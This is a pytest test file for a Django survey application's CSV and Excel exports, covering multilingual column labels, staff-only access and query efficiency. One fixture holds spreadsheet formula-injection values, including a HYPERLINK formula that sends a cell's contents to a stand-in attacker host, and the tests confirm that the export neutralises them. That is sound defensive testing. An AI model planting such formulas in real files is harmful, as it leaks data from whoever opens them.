import io

import openpyxl
import pandas
import pytest
from django.urls import reverse

from idm.models import MemberState
from surveys import services
from tests.surveys.factories import complete_values, delegation, small_survey

pytestmark = pytest.mark.django_db


@pytest.fixture
def answered():
    s = small_survey(title_en="Enquête d’efficacité")
    ph, mx = delegation("PH", "asia"), delegation("MX", "americas")
    values = complete_values(s)
    values[s.conditional.pk] = "Atelier « Gérer les migrations de retour »"
    values[s.ranking.pk] = {s.option(s.ranking, 2).pk: 1, s.option(s.ranking, 0).pk: 2}
    values[s.multiple.pk] = [s.option(s.multiple, 1).pk]
    values[s.number.pk] = "3.5"
    services.save_answers(
        survey=s.survey,
        member_state=ph.state,
        values=values,
        expected_version=0,
        actor=ph.contributor,
        coerce=True,
    )
    services.submit_response(survey=s.survey, member_state=ph.state, actor=ph.focal_point)
    services.save_answers(
        survey=s.survey,
        member_state=mx.state,
        values={s.long_text.pk: "Más talleres en español"},
        expected_version=0,
        actor=mx.contributor,
    )
    return s


def question_columns(s, language="en"):
    columns = []
    for number, question in enumerate(
        [s.single, s.yes_no, s.conditional, s.multiple, s.likert, s.ranking, s.number, s.long_text],
        start=1,
    ):
        text = getattr(question, f"text_{language}") or question.text_en
        if question.kind in ("multiple_choice", "ranking"):
            for option in question.options.all():
                option_text = getattr(option, f"text_{language}") or option.text_en
                columns.append(f"Q{number}. {text} — {option_text}")
        else:
            columns.append(f"Q{number}. {text}")
    return columns


def test_csv_export_opens_in_pandas_with_accents_and_every_question(staff_client, answered):
    s = answered
    response = staff_client.get(reverse("surveys:csv", args=[s.survey.pk]), {"lang": "en"})
    assert response["Content-Type"] == "text/csv; charset=utf-8"
    assert "enquete-defficacite-responses.csv" in response["Content-Disposition"]
    body = b"".join(response.streaming_content)
    assert body.startswith("\ufeff".encode())
    frame = pandas.read_csv(io.BytesIO(body), encoding="utf-8-sig", keep_default_na=False)
    assert list(frame.columns)[8:] == question_columns(s)
    assert len(frame) == 2
    ph = frame[frame["State code"] == "PH"].iloc[0]
    assert ph["Status"] == "Submitted"
    assert ph[f"Q3. {s.conditional.text_en}"] == "Atelier « Gérer les migrations de retour »"
    assert int(ph[f"Q6. {s.ranking.text_en} — Théme A"]) == 2
    assert int(ph[f"Q6. {s.ranking.text_en} — Theme C"]) == 1
    assert ph[f"Q6. {s.ranking.text_en} — Theme B"] == ""
    assert int(ph[f"Q4. {s.multiple.text_en} — Rights"]) == 1
    assert int(ph[f"Q4. {s.multiple.text_en} — Labour"]) == 0
    assert float(ph[f"Q7. {s.number.text_en}"]) == 3.5
    mx = frame[frame["State code"] == "MX"].iloc[0]
    assert (mx["Status"], mx[f"Q8. {s.long_text.text_en}"]) == ("Draft", "Más talleres en español")


def test_xlsx_export_opens_in_openpyxl_with_french_labels(staff_client, answered):
    s = answered
    response = staff_client.get(reverse("surveys:xlsx", args=[s.survey.pk]), {"lang": "fr"})
    assert response["Content-Type"].startswith("application/vnd.openxmlformats")
    workbook = openpyxl.load_workbook(io.BytesIO(b"".join(response.streaming_content)))
    sheet = workbook.active
    assert sheet.title == "Réponses"
    rows = list(sheet.iter_rows(values_only=True))
    assert list(rows[0][:4]) == ["Code de l’État", "État membre", "Région", "Statut"]
    assert list(rows[0][8:]) == question_columns(s, "fr")
    ph = dict(zip(rows[0], next(r for r in rows[1:] if r[0] == "PH"), strict=True))
    assert ph["Statut"] == "Soumise"
    assert ph[f"Q1. {s.single.text_fr}"] == "Workshop (fr)"
    assert ph[f"Q2. {s.yes_no.text_fr}"] == "Oui"
    frame = pandas.read_excel(
        io.BytesIO(
            b"".join(
                staff_client.get(reverse("surveys:xlsx", args=[s.survey.pk])).streaming_content
            )
        )
    )
    assert len(frame) == 2


def test_exports_refused_to_delegates(client, answered):
    client.force_login(answered.survey.responses.first().member_state.delegates.first())
    assert client.get(reverse("surveys:csv", args=[answered.survey.pk])).status_code == 403
    assert client.get(reverse("surveys:xlsx", args=[answered.survey.pk])).status_code == 403


def test_csv_export_same_query_count_for_1_and_20_responses(staff_client):
    from django.db import connection
    from django.test.utils import CaptureQueriesContext

    s = small_survey()

    def export_queries():
        with CaptureQueriesContext(connection) as context:
            response = staff_client.get(reverse("surveys:csv", args=[s.survey.pk]))
            lines = b"".join(response.streaming_content).decode("utf-8-sig").splitlines()
        return len(context.captured_queries), len(lines)

    def add_response(code):
        d = delegation(code)
        services.save_answers(
            survey=s.survey,
            member_state=d.state,
            values=complete_values(s),
            expected_version=0,
            actor=d.contributor,
        )

    add_response("AA")
    queries_for_one, lines = export_queries()
    assert lines == 2
    for i in range(19):
        add_response(f"B{chr(65 + i)}")
    assert export_queries() == (queries_for_one, 21)


HYPERLINK = '=HYPERLINK("https://evil.example/?leak="&A2,"Open the report")'


@pytest.fixture
def hostile_answers():
    """A delegate's answers that a spreadsheet would run as formulas, and a negative number."""
    s = small_survey()
    s.number.min_value = -10
    s.number.save()
    ph = delegation("PH", "asia")
    services.save_answers(
        survey=s.survey,
        member_state=ph.state,
        values={
            **complete_values(s),
            s.conditional.pk: "@SUM(1+1)",
            s.number.pk: "-5",
            s.long_text.pk: HYPERLINK,
        },
        expected_version=0,
        actor=ph.contributor,
        coerce=True,
    )
    return s


def test_xlsx_export_answer_formula_is_a_string_cell(staff_client, hostile_answers):
    s = hostile_answers
    response = staff_client.get(reverse("surveys:xlsx", args=[s.survey.pk]))
    sheet = openpyxl.load_workbook(io.BytesIO(b"".join(response.streaming_content))).active
    headers = [cell.value for cell in sheet[1]]
    row = dict(zip(headers, sheet[2], strict=True))
    answer = row[f"Q8. {s.long_text.text_en}"]
    assert (answer.data_type, answer.value) == ("s", HYPERLINK)
    assert (
        row[f"Q3. {s.conditional.text_en}"].data_type,
        row[f"Q3. {s.conditional.text_en}"].value,
    ) == ("s", "@SUM(1+1)")
    number = row[f"Q7. {s.number.text_en}"]
    assert (number.data_type, number.value) == ("n", -5)


def test_csv_export_answer_formula_prefixed_number_unchanged(staff_client, hostile_answers):
    s = hostile_answers
    response = staff_client.get(reverse("surveys:csv", args=[s.survey.pk]))
    body = b"".join(response.streaming_content)
    frame = pandas.read_csv(io.BytesIO(body), encoding="utf-8-sig", keep_default_na=False)
    ph = frame.iloc[0]
    assert ph[f"Q8. {s.long_text.text_en}"] == "'" + HYPERLINK
    assert ph[f"Q3. {s.conditional.text_en}"] == "'@SUM(1+1)"
    assert ph[f"Q7. {s.number.text_en}"] == -5


def test_csv_export_reads_chunk_by_chunk_every_row_once(answered, monkeypatch):
    """Responses are read CHUNK at a time with their answers (two queries a chunk); rows
    across chunk boundaries keep their order and their own answers."""
    from django.db import connection
    from django.test.utils import CaptureQueriesContext

    from surveys import exports

    s = answered
    for code in ("AR", "BR", "CL"):
        team = delegation(code, "americas")
        services.save_answers(
            survey=s.survey,
            member_state=team.state,
            values={s.long_text.pk: f"Suggestion from {code}"},
            expected_version=0,
            actor=team.contributor,
        )
    monkeypatch.setattr(exports, "CHUNK", 2)
    with CaptureQueriesContext(connection) as context:
        body = b"".join(exports.csv_response(s.survey, language="en").streaming_content)
    frame = pandas.read_csv(io.BytesIO(body), encoding="utf-8-sig", keep_default_na=False)
    suggestions = dict(zip(frame["State code"], frame[f"Q8. {s.long_text.text_en}"], strict=True))
    assert suggestions == {
        "AR": "Suggestion from AR",
        "BR": "Suggestion from BR",
        "CL": "Suggestion from CL",
        "MX": "Más talleres en español",
        "PH": "",
    }
    assert list(frame["Member state"]) == sorted(frame["Member state"])
    answer_reads = [q for q in context.captured_queries if 'FROM "surveys_answer"' in q["sql"]]
    assert len(answer_reads) == 3  # five responses, two a chunk


@pytest.mark.parametrize(
    ("query", "column", "mexico"),
    [({"lang": "fr"}, "État membre", "Mexique"), ({"lang": "es"}, "Estado Miembro", "México")],
)
def test_csv_export_member_state_names_in_export_language(
    staff_client, answered, query, column, mexico
):
    MemberState.objects.filter(code="MX").update(name="Mexico")
    url = reverse("surveys:csv", args=[answered.survey.pk])
    frame = csv_frame(staff_client.get(url, query))
    assert frame[frame.iloc[:, 0] == "MX"].iloc[0][column] == mexico
    english = csv_frame(staff_client.get(url, {"lang": "en"}))
    assert english[english["State code"] == "MX"].iloc[0]["Member state"] == "Mexico"


def csv_frame(response):
    body = io.BytesIO(b"".join(response.streaming_content))
    return pandas.read_csv(body, encoding="utf-8-sig", keep_default_na=False)
